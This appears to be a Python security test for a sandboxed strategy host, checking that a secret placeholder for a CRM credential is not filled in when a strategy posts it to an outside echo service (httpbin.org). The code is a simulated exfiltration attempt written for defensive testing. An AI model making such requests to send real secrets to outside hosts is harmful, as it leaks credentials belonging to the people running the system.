# Tries to make the host fill a secret's placeholder into a text that the strategy can read.
# outcome: ok
# contained: ["{{secret:CRM}}", "refused"]

from stratagem import http


def run(contact, existing_contact, logger, **kwargs):
    contact.results["out"] = out = ["{{secret:CRM}}"]
    try:
        out.append(http.post("https://httpbin.org/anything", content="{{secret:CRM}}", headers={"X": "{{secret:CRM}}"}).text)
    except http.HTTPError as error:
        out.append(str(error) if "CRM" in str(error) else "refused")
    return contact
